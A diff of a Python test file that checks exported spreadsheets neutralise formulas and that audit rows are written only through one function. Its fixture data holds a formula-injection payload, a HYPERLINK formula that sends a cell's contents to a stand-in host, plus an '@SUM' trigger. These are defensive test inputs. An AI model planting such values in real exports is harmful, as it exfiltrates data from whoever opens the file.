@@ -294,7 +294,7 @@ def test_search_refuses_an_end_before_the_start(futures):
 
 def test_exported_spreadsheets_keep_formulas_inert(futures):
     with futures.uow() as uow:
-        evil = create_user(uow, "evil", '=HYPERLINK("http://x.example/?"&A1,"点我")', "password123", ["handler"])
+        evil = create_user(uow, "evil", '=HYPERLINK("http://x.example/?"&A1,"点我")', "kite-harbour9", ["handler"])
         audit.record(uow.session, evil.id, "signed_in", note="@SUM(1+1)")
         uow.commit()
     with futures.uow() as uow:
@@ -308,10 +308,8 @@ def test_exported_spreadsheets_keep_formulas_inert(futures):
 
 
 def test_no_service_writes_audit_rows_but_through_record():
-    # services/auth.py is the sessions workstream's: it moves to audit.record there (issue 8 §2–3).
-    pending = {"auth.py"}
     side_doors = [p.name for p in (ROOT / "services").glob("*.py")
-                  if "AuditEvent(" in p.read_text(encoding="utf-8") and p.name not in {"audit.py", *pending}]
+                  if "AuditEvent(" in p.read_text(encoding="utf-8") and p.name != "audit.py"]
     assert side_doors == []
 
 
